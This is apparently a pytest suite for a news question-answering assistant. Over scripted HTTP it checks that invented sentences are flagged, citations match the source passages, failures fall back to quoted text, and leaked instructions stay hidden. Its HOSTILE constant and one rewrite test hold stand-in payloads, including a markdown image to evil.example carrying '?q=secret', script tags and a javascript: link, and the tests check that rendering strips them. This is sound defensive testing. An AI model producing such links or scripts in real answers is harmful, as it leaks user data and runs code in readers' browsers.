"""Good, bad and hostile models, played over real HTTP: nothing invented is ever marked as supported."""

from __future__ import annotations

import time
from collections.abc import Iterator, Sequence
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from assistant import Assistant, prompts
from assistant.answering.evidence import estimated_tokens
from assistant.chat import open_chat_model
from assistant.conversation import Understood
from assistant.corpus import Corpus
from assistant.settings import AnsweringSettings, ChatSettings, Settings
from assistant.types import Answer, Filters, Reason, Turn
from assistant.ui import render
from tests.fakes import WordEmbeddings, make_article
from tests.scripted_server import BreakOff, Finish, Raw, ScriptedServer, Silence, Status, Step, scripted

MEETING = make_article(
    "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday. They spoke of security on the corridor.",
    title="Talks in Baku",
)
ATTACK = make_article(
    "A bomb killed two engineers near the airport of Karachi. The army blamed separatists for the attack.",
    title="Attack in Karachi",
)
QUESTION = "Who met Shehbaz Sharif in Baku?"
GOOD = "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday [1]."
QUOTED = "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday. [1]"


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
    folder = tmp_path_factory.mktemp("corpus")
    with Assistant.open(settings=Settings(data_dir=folder), embedder=WordEmbeddings()) as assistant:
        assistant.add([MEETING, ATTACK])
        yield assistant.corpus


def asked_of(server: ScriptedServer, corpus: Corpus, **chat: Any) -> Assistant:
    """An assistant that answers as soon as it has a sentence, with the server's model."""
    bounds = {"silence_seconds": 10, "total_seconds": 20, "retry_seconds": 0.01, "max_retries": 1}
    chosen = ChatSettings(**{"model": "openai:scripted", "base_url": server.url, **bounds, **chat})
    settings = Settings(answering=AnsweringSettings(min_score=0), chat=chosen)
    return Assistant(corpus, settings, chat_model=open_chat_model(chosen))


def answer_to(corpus: Corpus, *script: Step, **chat: Any) -> Answer:
    with scripted(script) as server:
        return asked_of(server, corpus, **chat).ask(QUESTION)


def assert_supported_sentences_are_cited(answer: Answer) -> None:
    markers = [citation.marker for citation in answer.citations]
    assert markers == list(range(1, len(markers) + 1))
    for citation in answer.citations:
        assert citation.text == citation.article.text[citation.start : citation.end]
    for sentence in answer.sentences:
        assert sentence.is_supported == bool(sentence.markers) == (not sentence.reason)
        assert set(sentence.markers) <= set(markers)


def test_a_good_answer_is_cited_by_the_exact_sentence(corpus: Corpus):
    answer = answer_to(corpus, *GOOD)  # a delta a character
    assert answer.text == QUOTED
    assert answer.mode == "chat"
    assert [citation.text for citation in answer.citations] == [MEETING.text[:54]]
    assert (answer.groundedness, answer.unresolved, answer.is_complete) == (1.0, (), True)
    assert answer.generation
    assert (answer.generation.model, answer.generation.failure) == ("openai:scripted", "")
    assert 0 < answer.generation.tokens < answer.generation.window
    assert_supported_sentences_are_cited(answer)


def test_no_step_shows_half_a_marker_or_an_unchecked_sentence(corpus: Corpus):
    text = f"{GOOD} They spoke of security on the corridor [1][2]. A bomb killed two engineers【2】."
    with scripted(list(text)) as server:
        assistant = asked_of(server, corpus)
        steps = list(assistant.stream(QUESTION))
    for step in steps:
        assert "【" not in step.text
        assert step.text.count("[") == step.text.count("]")
        assert_supported_sentences_are_cited(step)
    assert [len(sentence.markers) for sentence in steps[-1].sentences] == [1, 1, 1]


@pytest.mark.parametrize(
    ("invented", "reason"),
    [
        ("Ding Xuexiang met Shehbaz Sharif in Baku 17 times [1].", "“17”"),
        ("Ding Xuexiang met Shehbaz Sharif in Baku on Friday [1].", "“Friday”"),
        ("Ding Xuexiang met Narendra Modi in Baku on Wednesday [1].", "“Narendra”, “Modi”"),
        ("The moon is made of cheese and turns slowly [1].", "not said like this"),
        ("Paris is the capital of France.", "“France” is not in any passage"),
    ],
)
def test_what_is_invented_is_greyed_with_the_reason(corpus: Corpus, invented: str, reason: str):
    answer = answer_to(corpus, f"{GOOD} {invented}")
    assert [sentence.is_supported for sentence in answer.sentences] == [True, False]
    assert reason in answer.sentences[1].reason
    assert answer.sentences[1].markers == ()
    assert answer.groundedness == 0.5
    page = render.transcript((answer,))
    assert 'class="unsupported"' in page
    assert answer.text in render.plain_text(answer)
    assert_supported_sentences_are_cited(answer)


NEARLY = "Ding Xuexiang spoke with Shehbaz Sharif in Baku."


def test_what_a_passage_says_in_other_words_without_being_named_is_not_confirmed(corpus: Corpus):
    answer = answer_to(corpus, f"{GOOD} {NEARLY}")
    first, second = answer.sentences
    assert (first.is_supported, first.is_unconfirmed) == (True, False)
    assert (second.is_supported, second.is_unconfirmed) == (False, True)
    assert "“Talks in Baku”" in second.reason
    assert answer.groundedness == 0.5
    page = render.transcript((answer,))
    assert 'class="unconfirmed"' in page
    assert "Not confirmed: close to what “Talks in Baku” says" in page
    assert f"- {NEARLY} (Not confirmed: " in render.plain_text(answer)
    assert_supported_sentences_are_cited(answer)


def test_if_nothing_is_confirmed_the_passages_are_quoted_and_it_says_why(corpus: Corpus):
    answer = answer_to(corpus, NEARLY)
    assert answer.mode == "extractive"
    assert MEETING.text[:54] in answer.text
    assert answer.generation
    assert "no sentence of it could be confirmed" in answer.generation.failure
    assert NEARLY not in render.transcript((answer,))


def test_what_is_not_confirmed_is_removed_if_that_is_set(corpus: Corpus):
    answer = answer_to(corpus, f"{GOOD} {NEARLY}", unsupported="removed")
    assert answer.text == QUOTED


def test_what_is_invented_is_removed_if_that_is_set(corpus: Corpus):
    answer = answer_to(corpus, f"{GOOD} Sharif paid 300 dollars [1].", unsupported="removed")
    assert answer.text == QUOTED
    assert answer.generation
    assert answer.generation.removed == 1


def test_numbers_that_do_not_exist_are_removed_and_counted(corpus: Corpus):
    answer = answer_to(corpus, "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday [1][9], [12-14].")
    assert answer.text == QUOTED
    assert answer.unresolved == ("9", "12-14")


def test_a_sentence_without_a_marker_gets_one_if_a_passage_clearly_says_it(corpus: Corpus):
    answer = answer_to(corpus, "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday.")
    assert answer.text == QUOTED


def test_a_wrong_marker_is_mended(corpus: Corpus):
    answer = answer_to(corpus, "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday [2].")
    assert answer.text == QUOTED
    assert answer.citations[0].article == MEETING


@pytest.mark.parametrize(
    "text",
    ["Cows can fly to Mars in 1850 [1].", "I do not know.", "As an AI I like cheese [1]. So be it [2]."],
)
def test_an_answer_with_nothing_supported_is_an_abstention_without_references(corpus: Corpus, text: str):
    answer = answer_to(corpus, text)
    assert answer.abstention
    assert answer.abstention.reason is Reason.NOT_SUPPORTED
    assert (answer.text, answer.citations, answer.sentences) == ("", (), ())
    assert "Cows" not in render.transcript((answer,))


HOSTILE = (
    f"{GOOD} ![x](http://evil.example/?q=secret) <img src=http://evil.example/a.png> "
    "[click](javascript:alert(1)) <script>alert(1)</script> See http://evil.example/path for more."
)


def test_images_links_and_tags_are_text_without_effect(corpus: Corpus):
    answer = answer_to(corpus, HOSTILE)
    page = render.transcript((answer,))
    for shown in (answer.text, page, render.plain_text(answer)):
        for forbidden in ("evil.example", "<script", "<img", "javascript:", "href", "src="):
            assert forbidden not in shown
    assert answer.sentences[0].is_supported


@pytest.mark.parametrize("copied", [QUESTION, f"Question: {QUESTION}", f"**Question:** {QUESTION} [1]"])
def test_a_copy_of_the_question_is_no_answer(corpus: Corpus, copied: str):
    answer = answer_to(corpus, f"{copied}\n\n{GOOD}")
    assert answer.text == QUOTED


def test_another_question_may_be_quoted(corpus: Corpus):
    answer = answer_to(corpus, f"{GOOD} Who blamed separatists? [2]")
    assert [sentence.text for sentence in answer.sentences][1:] == ["Who blamed separatists?"]


def test_leaked_instructions_are_never_shown(corpus: Corpus):
    def leaking(request: dict[str, Any]) -> list[str]:
        message = request["messages"][1]["content"]
        drawn = message.split("FENCE-")[1][:16].upper()
        mangled = f" Ding Xuexiang met Shehbaz Sharif in Baku for Fense-{drawn} [1]. "
        return [GOOD, " ", request["messages"][0]["content"], "\n", message, mangled]

    with scripted(leaking) as server:
        assistant = asked_of(server, corpus)
        answer = assistant.ask(QUESTION)
        fence = server.requests[0]["messages"][1]["content"].split("FENCE-")[1][:16]
    assert fence not in str(answer.to_dict()).lower()
    told = prompts.load("answer", variables={"fence"}).text
    for line in told.splitlines():
        assert not line.strip("- ") or line.strip("- ") not in answer.text
    assert_supported_sentences_are_cited(answer)


@pytest.mark.parametrize(
    ("script", "why"),
    [
        ((Status(500),), "HTTP 500"),
        ((Status(401),), "refused the key"),
        ((Silence(),), "said nothing for 0.5 s"),
        ((GOOD, " They spoke", BreakOff()), "broke off"),
        ((Raw(b"data: {garbage\n\n"),), "sent no answer"),
        ((), "empty answer"),
        (("...", " ?!"), "wrote no sentence"),
        ((GOOD, Finish("content_filter")), "withheld"),
    ],
)
def test_if_the_model_fails_the_quoted_answer_stands_in_and_says_why(
    corpus: Corpus, script: tuple[Step, ...], why: str
):
    answer = answer_to(corpus, *script, silence_seconds=0.5 if script == (Silence(),) else 10)
    assert answer.mode == "extractive"
    assert answer.text.startswith(QUOTED)
    assert (answer.sentences, answer.is_complete) == ((), True)
    assert answer.generation
    assert why in answer.generation.failure
    for shown in (render.transcript((answer,)), render.plain_text(answer)):
        assert "Quoted instead of an answer by the chat model" in shown
        assert why in shown


def test_a_refusal_for_a_moment_is_tried_again(corpus: Corpus):
    with scripted([Status(429, headers={"retry-after": "0"})], [GOOD]) as server:
        assistant = asked_of(server, corpus)
        assert assistant.ask(QUESTION).text == QUOTED


def test_an_answer_that_was_cut_off_says_so(corpus: Corpus):
    answer = answer_to(corpus, GOOD, " They spoke of sec", Finish("length"))
    assert "longest length" in render.plain_text(answer)


def test_what_has_no_room_in_the_window_is_left_out_and_counted(tmp_path: Path):
    long = [
        make_article(f"Ding met Sharif in Baku, part {n}. " + "And so on. " * 40, title=f"Part {n}")
        for n in range(9)
    ]
    with scripted(["Ding met Sharif in Baku [1]."]) as server:
        with Assistant.open(tmp_path, embedder=WordEmbeddings()) as many:
            many.add(long)
            answer = asked_of(server, many.corpus, context_tokens=1400, max_output_tokens=400).ask(QUESTION)
        sent = server.requests[0]["messages"][1]["content"]
    assert answer.generation
    assert answer.generation.left_out > 0
    assert answer.generation.passages + answer.generation.left_out == len(answer.hits)
    assert sent.count(" end of [") == answer.generation.passages
    assert "had no room in its 1,400 tokens" in render.plain_text(answer)


def test_without_room_for_a_passage_it_is_quoted(corpus: Corpus):
    answer = answer_to(corpus, GOOD, context_tokens=1024, max_output_tokens=1000)
    assert answer.generation
    assert "no room" in answer.generation.failure
    assert answer.text.startswith(QUOTED)


def test_evidence_is_numbered_titled_dated_and_fenced_anew_each_time(corpus: Corpus):
    with scripted([GOOD]) as server:
        assistant = asked_of(server, corpus)
        assistant.ask(QUESTION)
        assistant.ask(QUESTION)
        first, second = ([message["content"] for message in each["messages"]] for each in server.requests)
    assert "passage [1] | title: Talks in Baku | source: Gazette | published: 2024-11-13\nDing" in first[1]
    assert first[0] != second[0]
    fence = first[0].split("FENCE-")[1][:16]
    assert fence in first[1]
    assert fence not in second[0] + second[1]


def test_a_stop_ends_the_request(corpus: Corpus):
    with scripted([GOOD, " They ", Silence(30)]) as server:
        assistant = asked_of(server, corpus, silence_seconds=30)
        steps = assistant.stream(QUESTION)
        while not server.requests:
            next(steps)
        next(steps)
        steps.close()  # type: ignore[attr-defined] # a generator
        assert server.client_left.wait(5)


def test_without_a_chat_model_nothing_is_generated(corpus: Corpus):
    answer = Assistant(corpus, Settings(answering=AnsweringSettings(min_score=0))).ask(QUESTION)
    assert (answer.mode, answer.generation, answer.sentences) == ("extractive", None, ())


def test_a_question_can_be_quoted_although_a_chat_model_is_set(corpus: Corpus):
    with scripted(GOOD) as server:
        answer = asked_of(server, corpus).ask(QUESTION, quoted=True)
    assert (answer.mode, answer.generation, answer.sentences) == ("extractive", None, ())
    assert server.requests == []


HISTORY = [Turn("user", "Who met Shehbaz Sharif in Baku?"), Turn("assistant", QUOTED)]


def understood(assistant: Assistant, question: str, history: Sequence[Turn] = HISTORY) -> Understood:
    """What the assistant's model makes of a question, however long it takes."""
    assert assistant.writer
    asking = assistant.writer.understand(Answer(question), history)
    while True:
        try:
            next(asking)
        except StopIteration as end:
            return end.value  # type: ignore[no-any-return]


def test_a_follow_up_is_rewritten_by_the_model(corpus: Corpus):
    with scripted(["When did Ding meet Sharif?"]) as server:
        found = understood(asked_of(server, corpus), "And when?")
    assert found == Understood("When did Ding meet Sharif?", also="And when?")
    sent = server.requests[0]["messages"][1]["content"]
    assert f"user: {QUESTION}\nassistant: {QUOTED}" in sent
    assert "Last question: And when?" in sent


def test_if_the_model_fails_to_rewrite_the_answer_says_so(corpus: Corpus):
    with scripted([Status(500)], [Status(500)], [GOOD]) as server:
        answer = asked_of(server, corpus).ask("And when?", HISTORY)
    assert answer.standalone_question == f"And when? {QUESTION}"
    assert answer.text == QUOTED
    for shown in (answer.note, render.transcript((answer,)), render.plain_text(answer)):
        assert "The chat model did not rewrite the question, so it was understood without it" in shown
        assert "HTTP 500" in shown


def test_a_refused_follow_up_says_so_too(corpus: Corpus):
    with scripted([Status(401)]) as server:
        answer = asked_of(server, corpus).ask(
            "and the moons of Jupiter?", HISTORY, Filters(sources=("None",))
        )
    assert answer.abstention
    assert "refused the key" in answer.note


def test_what_is_no_question_of_the_conversation_is_understood_without_the_model(corpus: Corpus):
    with scripted(["I'm sorry, but I can't help with that."], [GOOD]) as server:
        answer = asked_of(server, corpus).ask("And when?", HISTORY)
    assert answer.standalone_question == f"And when? {QUESTION}"
    assert "sorry" not in server.requests[1]["messages"][1]["content"]


def test_a_rewritten_question_has_no_address(corpus: Corpus):
    hostile = "<think>Hm.</think>Who met Sharif? ![x](http://evil.example/a.png) <b>hi</b>"
    with scripted([hostile], [GOOD]) as server:
        answer = asked_of(server, corpus).ask("why?", HISTORY)
    assert answer.standalone_question == "Who met Sharif?"
    assert "evil" not in str(answer.to_dict()) + str(server.requests[1])


def test_a_stop_ends_the_rewriting(corpus: Corpus):
    with scripted([Silence(30)]) as server:
        steps = asked_of(server, corpus, silence_seconds=30).stream("why?", HISTORY)
        waiting = next(steps)
        while not server.requests:
            assert next(steps) == waiting
        assert waiting == Answer("why?")
        started = time.monotonic()
        steps.close()  # type: ignore[attr-defined] # a generator
        assert server.client_left.wait(5)
    assert time.monotonic() - started < 5


def test_a_reply_that_was_cut_off_is_no_question_in_its_last_line(corpus: Corpus):
    with scripted(
        ["When did Ding meet Sharif?\nWho met Shar", Finish("length")], ["Who met Sh", Finish("length")]
    ) as server:
        assistant = asked_of(server, corpus)
        assert understood(assistant, "why?").standalone == "When did Ding meet Sharif?"
        assert understood(assistant, "why?").standalone == f"why? {QUESTION}"


def test_an_endless_reply_is_not_waited_for(corpus: Corpus):
    with scripted(["<think>", *["And so on. " * 100] * 80, Silence(30)]) as server:
        chat = {"silence_seconds": 30, "max_output_tokens": 8192, "context_tokens": 32_000}
        found = understood(asked_of(server, corpus, **chat), "why?")
    assert found.standalone == f"why? {QUESTION}"


LONG = [
    Turn(("user", "assistant")[n % 2], f"Turn {n}. " + "They spoke of the corridor. " * 64) for n in range(60)
]


def test_turns_without_room_in_the_window_are_left_out_and_it_says_so(corpus: Corpus):
    with scripted(["When did Ding meet Sharif in Baku?"], [GOOD]) as server:
        answer = asked_of(server, corpus, context_tokens=2048).ask("And when?", LONG)
    sent = "".join(message["content"] for message in server.requests[0]["messages"])
    assert estimated_tokens(sent) + 800 <= 2048
    assert f"assistant: {LONG[-1].text.strip()}\n" in sent
    assert "Turn 58" not in sent
    assert sent.rstrip().endswith("Last question: And when?")
    expected = (
        "To understand the question, the chat model was shown the last 1 of 12 turns; "
        "the others had no room in its 2,048 tokens."
    )
    assert expected == answer.note
    assert expected in render.plain_text(answer)


def test_of_a_last_turn_without_room_the_beginning_is_sent(corpus: Corpus):
    with scripted(["When did Ding meet Sharif in Baku?"]) as server:
        chat = {"context_tokens": 1200, "max_output_tokens": 800}
        found = understood(
            asked_of(server, corpus, **chat), "And when?", LONG[-1:] * 2 + HISTORY[:1] + LONG[-1:]
        )
    sent = "".join(message["content"] for message in server.requests[0]["messages"])
    assert estimated_tokens(sent) + 800 <= 1200
    assert "assistant: Turn 59. They spoke" in sent
    assert "…" in sent
    assert "only the beginning of a long turn" in found.note


def test_without_room_for_a_turn_the_model_is_not_asked(corpus: Corpus):
    with scripted([GOOD]) as server:
        chat = {"context_tokens": 1024, "max_output_tokens": 1000}
        found = understood(asked_of(server, corpus, **chat), "And when?")
    assert found.standalone == f"And when? {QUESTION}"
    assert "no room for the conversation" in found.note
    assert server.requests == []


def test_a_conversation_asks_the_model_twice_and_shows_the_question(corpus: Corpus):
    with scripted(["Who met Sharif in Baku?"], [GOOD]) as server:
        answer = asked_of(server, corpus).ask("And who met him?", HISTORY)
    assert (answer.standalone_question, answer.text) == ("Who met Sharif in Baku?", QUOTED)
    assert len(server.requests) == 2


def test_the_period_is_that_of_the_rewritten_question(corpus: Corpus):
    with scripted(["Who met Sharif in Baku in March 2024?"], [GOOD]) as server:
        answer = asked_of(server, corpus).ask("and in March?", HISTORY, today=date(2026, 11, 28))
    assert answer.period
    assert (answer.period.start, answer.period.end) == (date(2024, 3, 1), date(2024, 3, 31))


def test_a_question_that_is_too_long_is_sent_to_no_model(corpus: Corpus):
    question = "And why? " * 300
    with scripted(["Why?"], [GOOD]) as server:
        answer = asked_of(server, corpus).ask(question, HISTORY)
    assert answer.abstention
    assert answer.abstention.reason is Reason.QUESTION_TOO_LONG
    assert answer.standalone_question == answer.question
    assert server.requests == []
